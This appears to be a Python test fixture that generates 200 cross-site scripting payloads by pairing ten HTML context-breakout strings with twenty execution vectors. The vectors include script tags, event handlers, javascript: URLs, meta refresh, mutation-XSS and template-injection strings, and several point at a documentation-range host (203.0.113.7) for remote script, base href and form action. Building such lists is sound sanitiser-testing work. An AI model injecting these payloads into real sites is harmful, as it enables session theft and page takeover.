"""Words that a careless page would run: 200 of them, made of ten ways out of where text stands and
twenty ways to run something there. 203.0.113.0/24 is nobody's (RFC 5737)."""

from __future__ import annotations

from itertools import product

OUT_OF = [
    "",
    '">',
    "'>",
    "</textarea>",
    "</title></head><body>",
    "</script>",
    "</style>",
    "-->",
    "</q></blockquote></main>",
    "\u202e]]>&lt;",
]
RUN = "alert(1),window.ran=1"
RUNNING = [
    f"<script>{RUN}</script>",
    "<script src=//203.0.113.7/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<a href=javascript:{RUN} autofocus onfocus={RUN} tabindex=0>read this</a>",
    f" autofocus onfocus={RUN} onmouseover={RUN} x=",
    f"<body onload={RUN} onpageshow={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    "<base href=//203.0.113.7/>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f"<form action=//203.0.113.7/><button autofocus onfocus={RUN}>Keep</button></form>",
    f'<div hx-get="/desk/me" hx-trigger="load" hx-on::load="{RUN}"></div>',
    "<style>@import'//203.0.113.7/x.css';*{background:url(//203.0.113.7/y)}</style>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    "{{7919*7907}}${" + RUN + "}{% raw %}<object data=javascript:" + RUN + "></object>",
]
PAYLOADS = [f"{out}{running}" for out, running in product(OUT_OF, RUNNING)]
